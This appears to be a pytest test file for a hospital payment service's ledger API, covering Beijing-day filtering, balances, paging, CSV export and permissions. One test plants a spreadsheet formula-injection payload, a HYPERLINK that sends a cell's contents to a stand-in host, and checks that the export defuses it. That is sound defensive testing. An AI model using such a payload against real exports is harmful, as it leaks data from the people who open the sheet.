"""The ledger as staff read it: by days of Beijing, with balances, and as a table that tricks no spreadsheet."""

import csv
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from io import StringIO
from typing import Any

import pytest
from common.testing import assert_problem
from payment_svc.api.ledger import AccountDaysOut, harmless, yuan
from payment_svc.api.schemas import LedgerOut
from payment_svc.domain import Intent
from payment_svc.store import ledger
from payment_svc.usecases import ledger as usecase
from payment_world import ACCOUNT, CASHIER, FEE, HOSPITAL, OPERATOR, OTHER_CASHIER, PATIENT, REGISTRAR, World
from werkzeug.test import TestResponse

INTENT = Intent("ord_1", ACCOUNT, HOSPITAL, FEE, "", None, "paid", "pay_1", "fct_1")
OTHER = replace(INTENT, order_id="ord_2", hospital_id="hos_2")
NIGHT = datetime(2026, 11, 22, 15, 59, 59, 999_999, tzinfo=UTC)
"""The last moment of the 22nd in Beijing."""


def post(world: World, kind: str, cause: str, intent: Intent | None, fen: int, at: datetime) -> None:
    world.clock.set(at)
    with world.database.transaction() as tx:
        back = kind == "refund_paid"
        sides = ("order_payable", "clearing:alipay") if back else ("clearing:alipay", "order_payable")
        ledger.post(tx, kind, cause, intent, debit=sides[0], credit=sides[1], amount=fen)


def three_days(world: World) -> None:
    """5000 on the 22nd and 3 at its very end, 700 of another hospital in the first moment of the 23rd; 1000 go back on the 25th."""
    post(world, "capture", "a", INTENT, 5000, NIGHT - timedelta(hours=10))
    post(world, "capture", "b", INTENT, 3, NIGHT)
    post(world, "capture", "c", OTHER, 700, NIGHT + timedelta(microseconds=1))
    post(world, "refund_paid", "d", INTENT, 1000, NIGHT + timedelta(days=2, hours=12))


def ask(world: World, query: str = "", *, path: str = "", headers: Any = OPERATOR) -> TestResponse:
    answer = world.get(f"/ledger{path}?{query}", headers=headers)
    assert answer.status_code == 200, answer.get_data()
    return answer


def kinds(world: World, query: str, **more: Any) -> list[str]:
    answer = ask(world, query, **more).get_json()
    assert LedgerOut().validate(answer) == {}
    return [entry["id"].partition(":")[2] for entry in answer["items"]]


def balances(world: World, query: str, **more: Any) -> dict[str, int]:
    found = ask(world, query, **more).get_json()["balances"]
    return {one["account"]: one["balance"]["amount"] for one in found}


def test_entries_are_found_by_their_day_in_beijing(any_world: World) -> None:
    three_days(any_world)
    assert kinds(any_world, "day=2026-11-22") == ["a", "b"]
    assert kinds(any_world, "day=2026-11-23") == ["c"]
    assert kinds(any_world, "from=2026-11-23") == ["c", "d"]
    assert kinds(any_world, "to=2026-11-23") == ["a", "b", "c"]
    assert kinds(any_world, "from=2026-11-23&to=2026-11-24") == ["c"]
    assert kinds(any_world, "from=2026-11-22&to=2026-11-30&order_id=ord_1") == ["a", "b", "d"]
    assert kinds(any_world, "day=2026-11-23", headers=CASHIER) == []
    assert kinds(any_world, "day=2026-11-23", headers=OTHER_CASHIER) == ["c"]


def test_balances_are_those_at_the_end_of_the_last_day(any_world: World) -> None:
    three_days(any_world)
    assert balances(any_world, "day=2026-11-22") == {"clearing:alipay": 5003, "order_payable": -5003}
    assert balances(any_world, "to=2026-11-24")["clearing:alipay"] == 5703
    assert balances(any_world, "")["clearing:alipay"] == 4703
    assert balances(any_world, "to=2026-11-24", headers=CASHIER)["clearing:alipay"] == 5003


def test_pages_of_filtered_entries_go_on_where_they_ended(world: World) -> None:
    three_days(world)
    first = ask(world, "to=2026-11-23&limit=2").get_json()
    second = ask(world, f"to=2026-11-23&limit=2&cursor={first['next_cursor']}").get_json()
    assert [e["id"] for e in first["items"] + second["items"]] == ["capture:a", "capture:b", "capture:c"]
    assert second["next_cursor"] is None


def test_each_account_is_shown_day_by_day(any_world: World) -> None:
    three_days(any_world)
    answer = ask(any_world, "from=2026-11-23&to=2026-11-25", path="/balances").get_json()
    assert AccountDaysOut().validate(answer) == {}
    rows = [
        (d["day"], d["account"], *(d[name]["amount"] for name in ("opening", "debit", "credit", "closing")))
        for d in answer["items"]
    ]
    assert rows == [
        ("2026-11-23", "clearing:alipay", 5003, 700, 0, 5703),
        ("2026-11-23", "order_payable", -5003, 0, 700, -5703),
        ("2026-11-25", "clearing:alipay", 5703, 0, 1000, 4703),
        ("2026-11-25", "order_payable", -5703, 1000, 0, -4703),
    ]
    own = ask(any_world, "from=2026-11-22&to=2026-11-24", path="/balances", headers=OTHER_CASHIER).get_json()["items"]
    assert [(d["day"], d["opening"]["amount"]) for d in own] == [("2026-11-23", 0)] * 2


def table(world: World, query: str, **more: Any) -> list[list[str]]:
    response = ask(world, query, path="/export", **more)
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="ledger-2026-11-22')
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.count("\n") == text.count("\r\n")
    return list(csv.reader(StringIO(text, newline="")))


def test_the_table_has_a_row_for_each_line(any_world: World) -> None:
    three_days(any_world)
    header, *rows = table(any_world, "from=2026-11-22&to=2026-11-22")
    assert header == [
        "entry_id", "kind", "created_at", "order_id", "hospital_id", "account", "amount_fen", "amount_yuan"
    ]  # fmt: skip
    assert len(rows) == 4
    assert rows[2][:2] == ["capture:b", "capture"]
    assert rows[2][2].startswith("2026-11-22 23:59:59.999999+08:00")
    assert [row[3:] for row in rows[2:]] == [
        ["ord_1", HOSPITAL, "clearing:alipay", "3", "0.03"],
        ["ord_1", HOSPITAL, "order_payable", "-3", "-0.03"],
    ]
    assert {row[4] for row in table(any_world, "from=2026-11-22&to=2026-11-30", headers=CASHIER)[1:]} == {HOSPITAL}
    assert len(table(any_world, "from=2026-11-22&to=2026-11-30&order_id=ord_2")) == 3


def test_the_table_is_streamed_page_by_page(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(usecase, "_PAGE", 2)
    for n in range(5):
        post(world, "capture", f"p{n}", INTENT, n + 1, NIGHT)  # all of one moment
    response = ask(world, "from=2026-11-22&to=2026-11-22", path="/export")
    assert response.is_streamed
    rows = list(csv.reader(StringIO(response.get_data().decode("utf-8-sig"), newline="")))[1:]
    assert [row[0] for row in rows[::2]] == [f"capture:p{n}" for n in range(5)]


def test_no_cell_is_a_formula(world: World) -> None:
    evil = '=HYPERLINK("http://x/?"&A1)'
    post(world, "capture", "x", replace(INTENT, order_id=evil), 1, NIGHT)
    row = table(world, "from=2026-11-22&to=2026-11-22")[1]
    assert row[3] == f"'{evil}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_what_a_spreadsheet_would_run_stands_behind_an_apostrophe(start: str) -> None:
    assert harmless(f"{start}1") == f"'{start}1"
    assert harmless(f"a{start}") == f"a{start}"


def test_yuan_are_written_without_floats() -> None:
    assert [yuan(fen) for fen in (0, 5, -5, 100, -12345, 10**17 + 1)] == [
        "0.00", "0.05", "-0.05", "1.00", "-123.45", "1000000000000000.01"
    ]  # fmt: skip


@pytest.mark.parametrize("path", ["", "/balances", "/export"])
def test_the_ledger_is_for_cashiers_and_operators(world: World, path: str) -> None:
    query = f"/ledger{path}?from=2026-11-22&to=2026-11-22"
    assert_problem(world.get(query, headers={}), 401)
    for who in (PATIENT, REGISTRAR):
        assert_problem(world.get(query, headers=who), 403)


@pytest.mark.parametrize(
    ("path", "query", "field"),
    [
        ("", "day=22.11.2026", "day"),
        ("", "day=0001-01-01", "day"),
        ("", "from=x", "from"),
        ("", "to=9999-12-31", "to"),
        ("", "from=2026-11-23&to=2026-11-22", "to"),
        ("", "day=2026-11-22&to=2026-11-22", "day"),
        ("", "days=1", "days"),
        ("/balances", "to=2026-11-22", "from"),
        ("/balances", "from=2026-11-22", "to"),
        ("/balances", "from=2026-11-23&to=2026-11-22", "to"),
        ("/balances", "from=2025-11-22&to=2026-11-23", "to"),
        ("/export", "to=2026-11-22", "from"),
        ("/export", "from=2026-11-22&to=x", "to"),
        ("/export", "from=2026-11-22&to=2026-11-22&order_id=%00", "order_id"),
    ],
)
def test_bad_input_is_named(world: World, path: str, query: str, field: str) -> None:
    assert_problem(world.get(f"/ledger{path}?{query}", headers=OPERATOR), 422, field=field)
